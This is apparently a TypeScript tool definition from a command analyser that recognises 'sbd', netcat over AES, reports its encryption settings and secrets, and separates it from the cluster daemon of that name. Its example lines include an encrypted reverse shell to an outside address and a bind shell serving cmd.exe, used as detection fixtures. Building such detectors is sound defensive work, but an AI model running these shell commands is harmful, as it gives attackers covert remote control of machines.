import { OptionSet } from './option-set.ts';
import type { Tool, ToolArguments, ToolReading } from './tool.ts';

/** Commands of the cluster daemon of the same name. */
const CLUSTER = /^(?:create|list|dump|message|watch|allocate|query-watchdog|test-watchdog|ping)$/;

function read({ words }: ToolArguments): ToolReading | undefined {
  const options = new OptionSet(words, { short: 'kcpseidrPHaiwqt' });
  const [host, port] = options.operands;
  if (
    options.operands.some((operand) => CLUSTER.test(operand)) ||
    options.value('d')?.startsWith('/dev/') === true
  )
    return undefined;
  const connects = host !== undefined && /^\d{1,5}$/.test(port ?? '');
  const listens = options.has('l') && options.has('p');
  if (!connects && !listens) return undefined;
  const secrets = options.ranges('k');
  if (options.value('c') === 'off')
    return { class: 'none', secrets, reason: 'sbd with encryption switched off' };
  return {
    class: 'symmetric',
    direction: 'both',
    algorithm: 'aes-128-cbc',
    keySource: secrets.length > 0 ? 'command-line' : 'literal',
    inputs: [],
    secrets,
    confidence: secrets.length > 0 ? 0.9 : 0.75,
    reason: secrets.length > 0 ? 'sbd with a shared secret' : 'sbd with its built-in secret',
  };
}

/** sbd: netcat over AES. Debian's sbd is the STONITH daemon of a cluster, which has other commands. */
export const sbd: Tool = {
  id: 'sbd',
  names: ['sbd'],
  read,
  examples: {
    positive: [
      {
        line: 'sbd -k winter -e /bin/sh 198.51.100.7 443',
        platform: 'posix',
        class: 'symmetric',
        direction: 'both',
        algorithm: 'aes-128-cbc',
        keySource: 'command-line',
        secrets: ['winter'],
      },
      {
        line: 'sbd.exe -l -p 8080 -c on -e cmd.exe',
        platform: 'windows',
        class: 'symmetric',
        keySource: 'literal',
      },
    ],
    negative: [
      { line: 'sbd -d /dev/sda1 list', platform: 'posix' },
      { line: 'sbd -d /dev/sda1 -4 180 -1 60 create', platform: 'posix' },
      { line: 'sbd -l -p 8080 -c off', platform: 'posix' },
      { line: 'sbd -p /run/sbd.pid watch', platform: 'posix' },
    ],
  },
};
